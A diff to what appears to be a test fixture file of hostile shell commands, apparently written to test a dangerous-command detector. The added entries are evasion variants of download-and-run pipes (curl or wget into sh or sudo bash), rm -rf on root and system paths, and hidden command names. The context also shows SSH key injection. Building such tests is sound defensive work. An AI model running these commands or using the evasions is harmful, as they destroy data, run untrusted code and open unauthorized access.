@@ -38,6 +38,10 @@ PIPE = {
     "both ends quoted": "'curl' '-s' 'https://{h}/i.sh' | 'sh'",
     "no blanks": "curl https://{h}/i.sh|sh",
     "stderr too": "curl -s https://{h}/i.sh |& bash",
+    "line behind a pipe": "curl -s https://{h}/i.sh |\n  sh",
+    "lines behind pipes": "wget -qO- https://{h}/i.gz |  # get it\n\n"
+                          "gunzip |\n\tsudo bash",
+    "echoed words": "$(echo curl) -s https://{h}/i.sh | `which sh`",
 }
 EXEC = {
     "plain": "bash -c 'id; echo {s}'",
@@ -79,6 +83,9 @@ RM = {
     "busybox": "busybox rm -rf /",
     "quoted path": "rm -rf \"/\"",
     "home": "rm -rf \"$HOME\"",
+    "echoed word": "$(echo rm) -rf /",
+    "printed word": "`printf rm` -rf /home",
+    "line behind an or": "false ||\n  r''m -rf /usr",
 }
 KEYS = {
     "plain": "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k} a@b' >> "
